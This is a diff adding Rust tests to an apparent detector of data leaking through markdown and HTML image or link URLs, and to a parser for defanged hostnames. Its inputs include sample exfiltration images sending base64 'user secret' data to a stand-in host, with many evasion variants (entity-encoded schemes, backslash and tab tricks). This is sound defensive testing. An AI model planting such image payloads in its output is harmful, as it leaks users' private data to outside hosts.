@@ -142,11 +142,93 @@ fn ordinary_long_addresses_are_clean() {
     }
 }
 
+#[test]
+fn an_address_is_read_as_a_browser_reads_it() {
+    let data = "d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MQ";
+    for text in [
+        format!("![x](https:\\\\a.example\\p.png?{data})"),
+        format!("![x](https:/\\a.example/p.png?{data})"),
+        format!("![x](https:/a.example/p.png?{data})"),
+        format!("![x](https:////a.example/p.png?{data})"),
+        format!("![x](https://a.example\\p.png?{data})"),
+        format!("![x](\\\\a.example/p.png?{data})"),
+        format!("![x](/\\a.example/p.png?{data})"),
+        format!("<img src=\"//a.example/p.png?{data}\">"),
+        format!("<img src=//a.example/p.png?{data}>"),
+        format!("<img src='\\\\a.example\\p.png?{data}'>"),
+        format!("<img src=\"https&#58;//a.example/p.png?{data}\">"),
+        format!("<img src=\"https&colon;&sol;&sol;a.example/p.png?{data}\">"),
+        format!("<img src=\"&#x2f;&#x2F;a&period;example/p.png?{data}\">"),
+        format!("<img src=\"&#104;ttps://a.example/p.png?{data}\">"),
+        format!("<img src=\"ht&Tab;tps://a.example/p.png?{data}\">"),
+        format!("{{\"md\": \"![x](https:\\/\\/a.example\\/p.png?{data})\"}}"),
+    ] {
+        assert_eq!(what(&text).first(), Some(&"image_with_data"), "{text}");
+    }
+    assert_eq!(what(&format!("[x](//a.example/c?d={LIST})")), ["link_with_data"]);
+    assert_eq!(
+        what(&format!("<a href='//a.example/c?d={LIST}'>x</a>")),
+        ["link_with_data"]
+    );
+    for text in [
+        "C:\\\\Users\\\\ann\\\\c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MQ",
+        "x = \"//c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MSBhbmQgbW9yZQ\"",
+        "s/https?:\\/\\/[^\\/]+\\//x/",
+        "let a = b; // c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MSBhbmQgbW9yZQ",
+        "AT&#x2F;T",
+    ] {
+        assert_eq!(what(text), [""; 0], "{text}");
+    }
+}
+
+#[test]
+fn badges_of_words_and_versions_are_clean() {
+    for text in [
+        "![ci](https://img.badges.example/github/actions/workflow/status/o/r/ci.yml?branch=main&style=flat-square&logo=github&label=build)",
+        "[![v](https://img.badges.example/npm/v/left-pad.svg?style=for-the-badge&color=4c1&labelColor=2b2b2b&logoColor=white)](https://a.example)",
+        "<img src=\"https://b.example/badge/license-MIT%20or%20Apache--2.0-blue.svg?style=flat&amp;logo=rust&amp;maxAge=3600&amp;label=license\">",
+    ] {
+        assert_eq!(what(text), [""; 0], "{text}");
+    }
+    for text in [
+        "![x](https://b.example/p.png?name=ann-miller&street=12-rogue-lane&town=northfield)",
+        "![x](https://b.example/p.png?style=flat&label=4539578763621486&color=blue&logo=x&w=1)",
+    ] {
+        assert_eq!(what(text), ["image_with_data"], "{text}");
+    }
+}
+
+#[test]
+fn names_of_hosts_are_read_however_their_dots_are_written() {
+    for (text, expected) in [
+        ("ping evil.example now", ("evil.example", false)),
+        ("see Evil.Example.", ("evil.example", false)),
+        ("hxxps[:]//evil[.]example/x", ("evil.example", true)),
+        ("evil(.)example", ("evil.example", true)),
+        ("evil[dot]example", ("evil.example", true)),
+        ("evil [.] example", ("evil.example", true)),
+        ("203[.]0[.]113[.]9", ("203.0.113.9", true)),
+        ("evil%2Eexample", ("evil.example", true)),
+        ("evil\u{3002}example", ("evil.example", true)),
+        ("host=\"a.evil.example:8080\"", ("a.evil.example", false)),
+    ] {
+        let mut found = Vec::new();
+        names(text, |range, name, defanged| {
+            found.push((text[range].to_owned(), name.to_owned(), defanged))
+        });
+        let (_, name, defanged) = found.first().expect(text);
+        assert_eq!((name.as_str(), *defanged), expected, "{text}");
+    }
+    assert_eq!(hosts("https://a@b.example:80/x \"//c\""), ["b.example", "c"]);
+    assert_eq!(hosts("https:\\\\evil.example\\?//corp.example"), ["evil.example"]);
+}
+
 proptest::proptest! {
     #[test]
-    fn nothing_panics(text in "(mailto:|https://|dig |ping |[?]|%4|[{]|[}]|\\[|\\]|[a-f0-9]{20}|[.]|é| |\\PC){0,30}") {
+    fn nothing_panics(text in "(mailto:|//|\\\\\\\\|https:|&#58;|&sol;|\\[[.]\\]|src=\"|https://|dig |ping |[?]|%4|[{]|[}]|\\[|\\]|[a-f0-9]{20}|[.]|é| |\\PC){0,30}") {
         for (range, _, _) in find(&text) {
             proptest::prop_assert!(text.get(range).is_some());
         }
+        names(&text, |range, _, _| assert!(text.get(range).is_some()));
     }
 }
